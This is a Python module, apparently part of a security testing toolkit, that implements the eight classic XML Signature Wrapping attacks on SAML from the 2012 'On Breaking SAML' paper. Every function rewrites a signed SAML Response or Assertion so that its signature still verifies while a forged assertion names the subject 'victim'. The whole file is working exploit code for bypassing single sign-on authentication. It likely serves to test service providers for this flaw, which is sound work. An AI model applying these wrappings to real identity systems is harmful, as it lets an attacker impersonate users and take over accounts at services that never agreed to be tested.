"""The eight classic ways to wrap a signed SAML message around a forged one.

After Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012).
Each function bends a signed Response in place: the signature still fits what was signed, and a
careless receiver reads the forged subject instead. 1 and 2 need a signed Response, the others a
signed Assertion.
"""

from __future__ import annotations

import copy
from typing import TYPE_CHECKING, Any, Final

from lxml import etree

from hostile.saml import DS, SAML, SAMLP, Signed

if TYPE_CHECKING:
    from collections.abc import Callable

VICTIM: Final = "victim"
"""The subject that a forged assertion claims."""
_NAMES: Final = {"saml": SAML, "samlp": SAMLP, "ds": DS}


def _forge(element: Any) -> Any:
    for name_id in element.iter(f"{{{SAML}}}NameID"):
        name_id.text = VICTIM
    return element


def _without_signature(element: Any) -> Any:
    for signature in element.findall("ds:Signature", _NAMES):
        element.remove(signature)
    return element


def _renamed(element: Any) -> Any:
    element.set("ID", "_forged" + element.get("ID"))
    return element


def xsw1(root: Any) -> None:
    """Forged Response outside, the signed one inside its signature."""
    original = _without_signature(copy.deepcopy(root))
    root.find("ds:Signature", _NAMES).append(original)
    _renamed(_forge_shell(root))


def xsw2(root: Any) -> None:
    """As 1, the signed Response beside a detached signature."""
    original = _without_signature(copy.deepcopy(root))
    root.find("ds:Signature", _NAMES).addprevious(original)
    _renamed(_forge_shell(root))


def _forge_shell(root: Any) -> Any:
    """Forge the Response's own assertion, and not the copy that was just put inside."""
    _forge(root.findall("saml:Assertion", _NAMES)[-1])
    return root


def xsw3(root: Any) -> None:
    """Forged Assertion before the signed one."""
    original = root.find("saml:Assertion", _NAMES)
    original.addprevious(_renamed(_forge(_without_signature(copy.deepcopy(original)))))


def xsw4(root: Any) -> None:
    """Signed Assertion inside the forged one."""
    original = root.find("saml:Assertion", _NAMES)
    forged = _renamed(_forge(_without_signature(copy.deepcopy(original))))
    root.replace(original, forged)
    forged.append(original)


def xsw5(root: Any) -> None:
    """The signature stays in the forged Assertion; the original follows without it."""
    forged = root.find("saml:Assertion", _NAMES)
    original = _without_signature(copy.deepcopy(forged))
    _renamed(_forge(forged))
    root.append(original)


def xsw6(root: Any) -> None:
    """As 5, the original inside the signature."""
    forged = root.find("saml:Assertion", _NAMES)
    original = _without_signature(copy.deepcopy(forged))
    _renamed(_forge(forged))
    forged.find("ds:Signature", _NAMES).append(original)


def xsw7(root: Any) -> None:
    """Forged Assertion of the same ID in Extensions, before the signed one."""
    original = root.find("saml:Assertion", _NAMES)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(_forge(_without_signature(copy.deepcopy(original))))
    original.addprevious(extensions)


def xsw8(root: Any) -> None:
    """Forged Assertion of the same ID outside, the signed original in an Object of its signature."""
    forged = root.find("saml:Assertion", _NAMES)
    original = _without_signature(copy.deepcopy(forged))
    _forge(forged)
    etree.SubElement(forged.find("ds:Signature", _NAMES), f"{{{DS}}}Object").append(original)


WRAPPINGS: Final[dict[str, tuple[Signed, Callable[[Any], None]]]] = {
    "xsw1": (Signed.BOTH, xsw1),
    "xsw2": (Signed.BOTH, xsw2),
    "xsw3": (Signed.ASSERTION, xsw3),
    "xsw4": (Signed.ASSERTION, xsw4),
    "xsw5": (Signed.ASSERTION, xsw5),
    "xsw6": (Signed.ASSERTION, xsw6),
    "xsw7": (Signed.ASSERTION, xsw7),
    "xsw8": (Signed.ASSERTION, xsw8),
}
"""Name -> what the partner signs, and how the message is modified afterwards."""
